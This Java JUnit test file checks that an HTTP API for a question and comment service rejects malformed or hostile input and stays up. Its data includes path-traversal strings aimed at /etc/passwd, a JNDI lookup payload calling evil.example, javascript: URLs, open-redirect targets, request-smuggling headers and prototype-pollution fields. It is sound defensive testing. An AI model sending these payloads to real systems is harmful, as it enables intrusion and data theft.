package org.klartext.api.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.klartext.api.TestClock;
import org.klartext.api.TestServer;
import org.klartext.api.TestServer.Answer;
import org.klartext.api.identity.Role;
import org.klartext.api.store.Database;

/** Whatever is sent, the server says what is wrong with it, and goes on. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputTest {
  private static final String QUESTION = "/api/v1/questions/0frage000001";
  private static final String REPLY = "/api/v1/replies/01M6NZESW5NZTWHCPKMH6P24GN";
  private static final String FORM = "application/x-www-form-urlencoded";
  private static final List<String> WRITING =
      List.of(
          "/api/v1/questions",
          "/api/v1/pages/router/comments",
          QUESTION + "/answers",
          QUESTION + "/reports",
          REPLY + "/reports",
          "/api/v1/preview");

  private final TestClock clock = new TestClock();
  private TestServer server;
  private Wire wire;
  private int taken;

  @BeforeAll
  void start(@TempDir Path folder) throws Exception {
    server = TestServer.in(folder).at(clock).start().as(Role.MODERATOR);
    wire = new Wire(server);
  }

  @AfterAll
  void stop() {
    server.close();
  }

  @AfterEach
  void theServerGoesOnAndNothingWasTaken() {
    assertEquals("up", server.get("/health/ready").text("status"));
    try (Database database = server.database()) {
      int now = database.query(tx -> tx.contributions().counts()).values().stream().mapToInt(Long::intValue).sum();
      assertEquals(taken, now, "nothing was taken");
      taken = now;
    }
  }

  static Stream<Arguments> json() {
    return Stream.of(
        arguments("nothing", ""),
        arguments("a blank", " "),
        arguments("null", "null"),
        arguments("a list", "[]"),
        arguments("a text", "\"body\""),
        arguments("half an object", "{\"body\": \"x"),
        arguments("no quotes", "{body: 'x'}"),
        arguments("two objects", "{\"body\": \"x\"} {\"body\": \"x\"}"),
        arguments("something behind it", "{\"body\": \"x\"} x"),
        arguments("a comma too many", "{\"body\": \"x\",}"),
        arguments("a comment", "{/* x */ \"body\": \"x\"}"),
        arguments("the same field twice", "{\"body\": \"x\", \"body\": \"y\"}"),
        arguments("an unknown field", "{\"body\": \"x\", \"status\": \"published\"}"),
        arguments("a field of the prototype", "{\"body\": \"x\", \"__proto__\": \"y\"}"),
        arguments("where to go", "{\"body\": \"x\", \"returnTo\": \"https://evil.example/\"}"),
        arguments("a field of forms", "{\"body\": \"x\", \"formTime\": \"1.x\"}"),
        arguments("a list for a text", "{\"body\": [\"x\"]}"),
        arguments("an object for a text", "{\"body\": {\"x\": \"y\"}}"),
        arguments("100,000 levels", "[".repeat(100_000)),
        arguments("levels in a field", "{\"body\": " + "[".repeat(30_000)),
        arguments("levels of objects", "{\"body\": ".repeat(6_000)),
        arguments("a name of 60,000", "{\"" + "x".repeat(60_000) + "\": \"\"}"),
        arguments("a number without end", "{\"body\": \"x\", \"y\": " + "9".repeat(60_000) + "}"),
        arguments("NUL", "{\"body\": \"a\0b\"}"),
        arguments("NUL written out", "{\"body\": \"a\\u0000b\"}"),
        arguments("NUL in a name", "{\"body\": \"x\", \"na\\u0000me\": \"b\"}"),
        arguments("half a character", "{\"body\": \"a\\ud800b\"}"),
        arguments("the other half", "{\"body\": \"a\\udc00\"}"),
        arguments("halves the wrong way", "{\"body\": \"\\udc00\\ud800\"}"),
        arguments("half in a name", "{\"body\": \"x\", \"\\ud800\": \"b\"}"),
        arguments("half in UTF-8", "{\"body\": \"\u00ed\u00a0\u0080\"}"),
        arguments("not UTF-8", "{\"body\": \"\u00ff\u00fe\"}"),
        arguments("UTF-8 too long", "{\"body\": \"\u00c0\u00ae\"}"),
        arguments("UTF-8 that ends", "{\"body\": \"\u00c3"),
        arguments("a control character", "{\"body\": \"\\u001b[31m\"}"),
        arguments("a text backwards", "{\"body\": \"\\u202eabc\"}"),
        arguments("a form", "body=x&name=y"),
        arguments("XML", "<?xml version=\"1.0\"?><body>x</body>"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("json")
  void jsonThatIsNoContributionGetsAProblem(String name, String body) {
    for (String path : WRITING) {
      Wire.Reply reply =
          wire.send("POST " + path + " HTTP/1.1\nContent-Type: application/json", body);
      int status = reply.problem(name + " at " + path).status();
      assertTrue(List.of(400, 413, 422).contains(status), () -> path + ": " + reply);
    }
  }

  @Test
  void theFieldAtFaultIsNamed() {
    Map<String, String> fields =
        Map.of(
            "title", "\ud800",
            "body", "a\0b",
            "lang", "xx",
            "topic", "nichts",
            "email", "a@b@c",
            "website", "javascript:alert(1)",
            "name", "x".repeat(61));
    Map<String, String> values = new HashMap<>(fields);
    StringBuilder json = new StringBuilder("{");
    values.forEach((name, value) ->
        json.append(json.length() > 1 ? "," : "")
            .append("\"%s\": \"%s\"".formatted(name, value.replace("\0", "\\u0000").replace("\ud800", "\\ud800"))));
    Wire.Reply reply =
        wire.send(
            "POST /api/v1/questions HTTP/1.1\nContent-Type: application/json", json + "}");
    assertEquals(422, reply.problem("all wrong").status());
    List<String> pointers =
        reply.json().path("errors").findValuesAsString("pointer").stream().sorted().toList();
    assertEquals(fields.keySet().stream().map(it -> "/" + it).sorted().toList(), pointers);
  }

  static Stream<Arguments> forms() {
    return Stream.of(
        arguments("half a character", "body=%ED%A0%80"),
        arguments("not UTF-8", "body=%FF%FE"),
        arguments("not UTF-8 as it is", "body=\u00ff"),
        arguments("half an escape", "body=%4"),
        arguments("no escape", "body=%zz"),
        arguments("a percent sign", "%"),
        arguments("NUL", "body=a%00b"),
        arguments("NUL as it is", "body=a\0b"),
        arguments("a field twice", "body=x&body=y"),
        arguments("an unknown field", "body=x&admin=true"),
        arguments("JSON", "{\"body\": \"x\"}"),
        arguments("nothing", ""),
        arguments("ampersands", "&".repeat(60_000)),
        arguments("many fields", "a=b&".repeat(15_000)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("forms")
  void aFormThatIsNoContributionGetsAPage(String name, String body) {
    for (String path : WRITING.subList(0, 5)) {
      wire.send(
              "POST " + path + " HTTP/1.1\nAccept: text/html\nContent-Type: " + FORM, body)
          .page(name + " at " + path);
    }
    wire.send("POST /api/v1/preview HTTP/1.1\nContent-Type: " + FORM, body + "&x")
        .problem(name + " at the preview");
  }

  @ParameterizedTest
  @ValueSource(strings = {"redirect", "next", "returnTo", "url", "receipt"})
  void aFormCannotSayWhereToGo(String field) {
    Map<String, String> typed = typed("/ask", Map.of("title", "Wohin?", "body", "Dahin."));
    typed.put(field, "https://evil.example/");
    clock.pass(Duration.ofSeconds(20));
    Answer answer = server.form("/api/v1/questions", typed);
    assertEquals(400, answer.status());
    assertEquals("", answer.header("Location"));
    assertFalse(answer.body().contains("evil.example"), answer.body());
  }

  @Test
  void aRefusedFormComesBackWithWhatWasTypedAndTheMessageBesideTheField() {
    Map<String, String> typed = typed("/ask", Map.of("title", "Wie <b>lange</b>?", "name", "A\"b"));
    typed.put("body", "");
    typed.put("website", "javascript:alert(1)");
    Answer answer = server.form("/api/v1/questions", typed);
    assertEquals(422, answer.status());
    Document page = Jsoup.parse(answer.body());
    assertEquals("Wie <b>lange</b>?", page.select("[name=title]").val());
    assertEquals("A\"b", page.select("[name=name]").val());
    assertEquals("javascript:alert(1)", page.select("[name=website]").val());
    assertFalse(page.select("#_f-body-wrong").text().isBlank(), answer.body());
    assertFalse(page.select("#_f-website-wrong").text().isBlank(), answer.body());
    assertEquals(typed.get("idempotencyKey"), page.select("[name=idempotencyKey]").val());
  }

  @Test
  void aFormWithoutItsTimeOrWithAForgedOrAnOldOneComesBack() {
    Map<String, String> typed = typed("/ask", Map.of("title", "Wann?", "body", "Bald."));
    String time = String.valueOf(typed.get("formTime"));
    List<String> times =
        List.of("", "x", ".", "1.", "." + time, time + "x", "z" + time, "zzzzzzzzzzzzzzz.x", "-1.x");
    for (String forged : times) {
      typed.put("formTime", forged);
      refusedForm(typed, "form-expired " + forged);
    }
    typed.remove("formTime");
    refusedForm(typed, "without");
    typed.put("formTime", time);
    clock.pass(Duration.ofHours(25));
    Document again = refusedForm(typed, "old");
    assertFalse(again.select("[name=formTime]").val().equals(time), "there is a new time");
  }

  private Document refusedForm(Map<String, String> typed, String what) {
    Answer answer = server.form("/api/v1/questions", typed);
    assertEquals(422, answer.status(), what);
    Document page = Jsoup.parse(answer.body());
    assertEquals("Wann?", page.select("[name=title]").val(), what);
    assertEquals("Bald.", page.select("[name=body]").val(), what);
    return page;
  }

  /** The hidden fields of a form, and what was typed. */
  private Map<String, String> typed(String form, Map<String, String> values) {
    Document page = Jsoup.parse(server.get(form, "Accept", "text/html").body());
    Map<String, String> typed = new LinkedHashMap<>();
    page.select(".dialogue-form [type=hidden]").forEach(it -> typed.put(it.attr("name"), it.val()));
    typed.putAll(values);
    return typed;
  }

  @Test
  void whatIsTooLargeIsRefusedHoweverItComes() {
    String large = "{\"body\": \"" + "x".repeat(10_000_000) + "\"}";
    for (String path : WRITING) {
      String post = "POST " + path + " HTTP/1.1\nContent-Type: application/json";
      assertEquals(413, wire.send(post, large).problem("with its length").status());
      Wire.Reply chunked =
          wire.send(
              post + "\nTransfer-Encoding: chunked",
              Integer.toHexString(large.length()) + "\r\n" + large + "\r\n0\r\n\r\n");
      assertEquals(413, chunked.problem("in chunks").status());
      Wire.Reply announced = wire.send(post + "\nContent-Length: 99999999999999", "{");
      assertEquals(413, announced.problem("announced").status());
    }
    String form = "POST /api/v1/questions HTTP/1.1\nAccept: text/html\nContent-Type: " + FORM;
    assertEquals(413, wire.send(form, "body=" + "x".repeat(10_000_000)).page("a form").status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "multipart/form-data",
        "application/jsonp",
        "application",
        ";;;",
        "application/json, text/html",
        "%%%",
        "*/*"
      })
  void anotherTypeIsRefused(String type) {
    for (String path : WRITING) {
      String header = type.isEmpty() ? "" : "\nContent-Type: " + type;
      Wire.Reply reply = wire.send("POST " + path + " HTTP/1.1" + header, "{\"body\": \"x\"}");
      assertEquals(415, reply.problem(type + " at " + path).status());
    }
  }

  @Test
  void aPathSaysWhichMethodsItKnows() {
    Map<String, String> known = new LinkedHashMap<>();
    known.put("/ask", "GET, HEAD, POST, OPTIONS");
    known.put("/pages/router/report", "GET, HEAD, OPTIONS");
    known.put("/api/v1/questions", "POST, OPTIONS");
    known.put("/api/v1/pages/router/comments", "POST, OPTIONS");
    known.put("/api/v1/preview", "POST, OPTIONS");
    known.put("/receipt/x/y", "GET, HEAD, OPTIONS");
    known.put("/receipt/x/y/erase", "POST, OPTIONS");
    known.put("/api/v1/moderation/queue", "GET, HEAD, OPTIONS");
    known.put("/api/v1/moderation/decisions", "POST, OPTIONS");
    known.put("/api/v1/contributions/x", "GET, HEAD, DELETE, OPTIONS");
    known.put("/api/v1/contributions/x/decision", "PUT, DELETE, OPTIONS");
    known.put("/desk", "GET, HEAD, OPTIONS");
    known.put("/desk/login", "GET, HEAD, POST, OPTIONS");
    known.put("/desk/logout", "POST, OPTIONS");
    known.put("/health/live", "GET, HEAD, OPTIONS");
    known.put("/metrics", "GET, HEAD, OPTIONS");
    known.put("/artikel/router/", "GET, HEAD, OPTIONS");
    known.forEach((path, methods) -> {
      for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH", "TRACE")) {
        if (!methods.contains(method)) {
          Wire.Reply reply = wire.send(method + " " + path + " HTTP/1.1\nAccept: application/json", "");
          assertEquals(405, reply.problem(method + " " + path).status(), method + " " + path);
          assertEquals(methods, reply.header("Allow"), method + " " + path);
        }
      }
      Wire.Reply options = wire.send("OPTIONS " + path + " HTTP/1.1", "");
      assertEquals(204, options.harmless("OPTIONS " + path).status(), path);
      assertEquals(methods, options.header("Allow"), path);
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {"BREW", "get", "CONNECT", "PROPFIND", "X", "G\u00cbT", "GET\0", "{}"})
  void anUnknownMethodIsRefused(String method) {
    wire.send(method + " /api/v1/questions HTTP/1.1", "").problem(method);
    wire.send(method + " / HTTP/1.1", "").problem(method);
  }

  @Test
  void aHeaderDoesNotMakeAnotherMethodOfARequest() {
    String head = "GET /api/v1/contributions/x HTTP/1.1\nX-HTTP-Method-Override: DELETE";
    assertEquals(400, wire.send(head, "").problem("overridden").status());
  }

  @Test
  void headIsAnsweredAsGetIsButWithoutABody() {
    for (String path :
        List.of("/", "/artikel/router/", "/ask", "/health/live", "/nichts", "/api/v1/nichts")) {
      Wire.Reply get = wire.send("GET " + path + " HTTP/1.1", "");
      Wire.Reply head = wire.send("HEAD " + path + " HTTP/1.1", "");
      assertEquals(get.status(), head.status(), path);
      assertEquals(get.header("Content-Type"), head.header("Content-Type"), path);
      assertEquals("", head.body(), path);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/..",
        "/../",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/..%5c..%5cetc",
        "/..\\..\\etc",
        "/%252e%252e/",
        "/artikel/../../content/site.yaml",
        "/artikel/%2e%2e/%2e%2e/var/klartext.db",
        "/artikel%2fnichts",
        "/artikel//router/",
        "//etc/passwd",
        "/%00",
        "/artikel/%00",
        "/artikel/\0",
        "/artikel/router\u00ff",
        "/%",
        "/%zz",
        "/%f",
        "/%ff",
        "/%c0%ae%c0%ae/",
        "/%ed%a0%80",
        "/.klartext/",
        "/;x=y",
        "/artikel;x/router",
        "/artikel/router/index.html/",
        "/a:b",
        "/*",
        "?",
        "*",
        "artikel/router",
        "http://evil.example/artikel",
        "/\u00ef\u00bb\u00bf"
      })
  void aStrangePathLeadsNowhere(String path) {
    Wire.Reply reply = wire.send("GET " + path + " HTTP/1.1", "");
    assertTrue(reply.status() >= 400 && reply.status() < 500, () -> path + ": " + reply);
    reply.harmless(path);
    String api = "/api/v1/pages/" + path + "/comments";
    wire.send("POST " + api + " HTTP/1.1\nContent-Type: application/json", "{\"body\": \"x\"}")
        .problem(api);
  }

  @Test
  void aPathWithoutEndIsRefused() {
    for (String path : List.of("/" + "x".repeat(20_000), "/ask?topic=" + "x".repeat(20_000))) {
      assertEquals(414, wire.send("GET " + path + " HTTP/1.1", "").problem("long").status());
    }
    String longName = "/" + "x".repeat(5_000);
    assertEquals(404, wire.send("GET " + longName + " HTTP/1.1", "").harmless("long").status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/ask?topic=%00",
        "/pages/router/reply?to=%00",
        "/pages/router/reply?kind=spam",
        "/pages/router/report?reply=x",
        "/pages/nichts/reply",
        "/receipt/nichts/nichts?done=%00"
      })
  void aPageOfTheServerIsNotShownForAStrangeQuery(String path) {
    wire.send("GET " + path + " HTTP/1.1\nAccept: text/html", "").page(path);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "after=x",
        "after=%00",
        "after=MQ",
        "after=OTk5OTk5OTk5OTk5OTk5OTk5OTk5OSB4",
        "limit=0",
        "limit=-1",
        "limit=101",
        "limit=99999999999",
        "limit=1e2",
        "limit=%zz",
        "kind=spam",
        "state=secret",
        "reported=maybe",
        "order=name",
        "reported=true&reported=false",
        "limit=%",
        "limit=%4"
      })
  void aTamperedQuestionToTheQueueIsRefused(String query) {
    String head =
        "GET /api/v1/moderation/queue?%s HTTP/1.1\nAuthorization: Bearer %s"
            .formatted(query, server.token());
    assertEquals(400, wire.send(head, "").problem(query).status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"*", "1.1", "\"1\"", "W/\"1.1\"", "\"1.1\", \"1.2\"", "\"\"", "\"-1.1\"", "\u00ff"})
  void aTamperedIfMatchIsRefused(String tag) {
    String head =
        "PUT /api/v1/contributions/x/decision HTTP/1.1\nContent-Type: application/json\n"
            + "If-Match: %s\nAuthorization: Bearer %s".formatted(tag, server.token());
    assertEquals(400, wire.send(head, "{\"decision\": \"approved\"}").problem(tag).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"short", "with a blank in it", "\u00fcberlange-schluessel", ""})
  void aTamperedIdempotencyKeyIsRefused(String key) {
    String head =
        "POST /api/v1/questions HTTP/1.1\nContent-Type: application/json\nIdempotency-Key: " + key;
    String body = "{\"title\": \"x\", \"body\": \"y\"}";
    assertEquals(400, wire.send(head, body).problem(key).status());
    wire.send(head + "x".repeat(129), body).problem("long");
  }

  static Stream<Arguments> heads() {
    String get = "GET / HTTP/1.1\n";
    String post = "POST /api/v1/questions HTTP/1.1\nContent-Type: application/json\n";
    return Stream.of(
        arguments("a huge header", get + "X: " + "x".repeat(40_000)),
        arguments("many headers", get + "X: x\n".repeat(20_000)),
        arguments("a header without a colon", get + "X"),
        arguments("a header without a name", get + ": x"),
        arguments("a blank before the colon", get + "Host : x"),
        arguments("NUL in a header", get + "X: a\0b"),
        arguments("no host", get + "Host:"),
        arguments("a strange host", get + "Host: a b"),
        arguments("a host with a path", get + "Host: x/y"),
        arguments("a host with a wrong port", get + "Host: x:y"),
        arguments("two hosts", get + "Host: a\nHost: b"),
        arguments("a negative length", post + "Content-Length: -1"),
        arguments("no length", post + "Content-Length: x"),
        arguments("two lengths", post + "Content-Length: 1\nContent-Length: 2"),
        arguments("a length without end", post + "Content-Length: " + "9".repeat(40)),
        arguments("length and chunks", post + "Content-Length: 3\nTransfer-Encoding: chunked"),
        arguments("an unknown coding", post + "Transfer-Encoding: xchunked"),
        arguments("two codings", post + "Transfer-Encoding: chunked, chunked"),
        arguments("an unknown expectation", post + "Expect: 200-ok\nContent-Length: 0"),
        arguments("another protocol", "GET / HTTQ/1.1"),
        arguments("a protocol to come", "GET / HTTP/9.9"),
        arguments("no protocol number", "GET / HTTP/x"),
        arguments("blanks", "   "),
        arguments("three words too many", "GET / x y z HTTP/1.1"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("heads")
  void whatIsNoRequestIsRefused(String name, String head) {
    wire.send(head, "").problem(name);
  }

  @Test
  void whatIsNotEvenTextIsRefused() {
    assertTrue(wire.bytes("\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003\r\n\r\n").status() < 500);
    assertTrue(wire.bytes("GET /\r\n\r\n").status() < 500);
    assertTrue(wire.bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").status() < 500);
    assertTrue(wire.bytes("\r\n\r\n\r\n\0\r\n\r\n").status() < 500);
    String chunks = "POST /api/v1/questions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
    wire.bytes(chunks + "zz\r\n{}\r\n0\r\n\r\n").problem("a chunk of no size");
    wire.bytes(chunks + "ffffffffffffffff\r\n{}\r\n0\r\n\r\n").problem("a chunk without end");
    wire.bytes(chunks + "-1\r\n{}\r\n0\r\n\r\n").problem("a negative chunk");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Accept-Language: \u00ff\u00fe",
        "Accept-Language: de;q=x, *;q=9, ,,;;==",
        "Accept-Language: x-y-z-klingon-toolongsubtag, de-",
        "Accept: %%%",
        "Cookie: klartext-session=\u00ff; ;;=; a=\"",
        "Cookie: klartext-session=" + "%00",
        "If-None-Match: *, W/\"\"\"\"",
        "Range: bytes=9-1",
        "X-Forwarded-For: ;;; drop table, ::::, 999.1.1.1",
        "X-Forwarded-Proto: \u00ff",
        "Forwarded: for=\"_x",
        "Origin: null",
        "Origin: ht!tp://[",
        "Referer: \u00ff",
        "User-Agent: ${jndi:ldap://evil.example/x}",
        "Content-Encoding: gzip",
        "Upgrade: websocket\nConnection: Upgrade"
      })
  void aStrangeHeaderDisturbsNobody(String header) {
    assertEquals(200, wire.send("GET / HTTP/1.1\n" + header, "").harmless(header).status());
    assertEquals(200, wire.send("GET /ask HTTP/1.1\n" + header, "").harmless(header).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"Bearer", "Bearer ", "Bearer x", "Bearer \u00ff", "Basic YTpi", "\0x", "Bearer a.b.c"})
  void aStrangeTokenIsNobodys(String value) {
    Wire.Reply reply =
        wire.send("GET /api/v1/moderation/queue HTTP/1.1\nAuthorization: " + value, "");
    assertTrue(List.of(400, 401).contains(reply.problem(value).status()), reply::toString);
  }

  @Test
  void whoGuessesReceiptsLearnsNothing() throws Exception {
    Answer sent = server.post("/api/v1/questions", Map.of("title", "Geheim?", "body", "Ja."));
    taken++;
    String receipt = sent.text("receipt");
    String id = TestServer.idOf(receipt);
    String secret = receipt.substring(receipt.lastIndexOf('/') + 1);
    String unknown = wire.send("GET /receipt/nichts/x HTTP/1.1", "").page("unknown").body();
    for (String guess :
        List.of("x", secret + "x", secret.substring(1), secret.toUpperCase(java.util.Locale.ROOT) + "0", "%00", "%ff")) {
      Wire.Reply reply = wire.send("GET /receipt/" + id + "/" + guess + " HTTP/1.1", "");
      assertTrue(List.of(400, 404).contains(reply.harmless(guess).status()), guess);
      assertFalse(reply.body().contains("Geheim"), guess);
      if (reply.status() == 404) {
        assertEquals(unknown, reply.body(), guess);
      }
      Wire.Reply erase =
          wire.send(
              "POST /receipt/" + id + "/" + guess + "/erase HTTP/1.1\nContent-Type: " + FORM,
              "confirm=yes");
      assertTrue(List.of(400, 404).contains(erase.status()), guess);
    }
    assertEquals("held", server.queued(id).path("state").asString());
    assertEquals(200, server.decide(id, Map.of("decision", "rejected", "reason", "spam")).status());
  }

  @Test
  void whatIsMissingIsToldToPeopleAndPrograms() {
    Wire.Reply page = wire.send("GET /gibt/es/nicht/ HTTP/1.1\nAccept: text/html", "");
    assertEquals(404, page.page("a page").status());
    assertTrue(page.body().contains("<main"), page.body());
    assertEquals(404, wire.send("GET /api/v1/nichts HTTP/1.1", "").problem("api").status());
    assertEquals(404, wire.send("GET /api/ HTTP/1.1\nAccept: text/html", "").problem("api").status());
    assertEquals(404, wire.send("POST /nichts HTTP/1.1", "").harmless("post").status());
    String post = "POST /api/v1/pages/%s/comments HTTP/1.1\nContent-Type: application/json";
    String body = "{\"body\": \"x\"}";
    assertEquals(404, wire.send(post.formatted("nichts"), body).problem("no page").status());
    assertEquals(403, wire.send(post.formatted("still"), body).problem("closed").status());
    assertEquals(403, wire.send(post.formatted("stumm"), body).problem("off").status());
  }
}
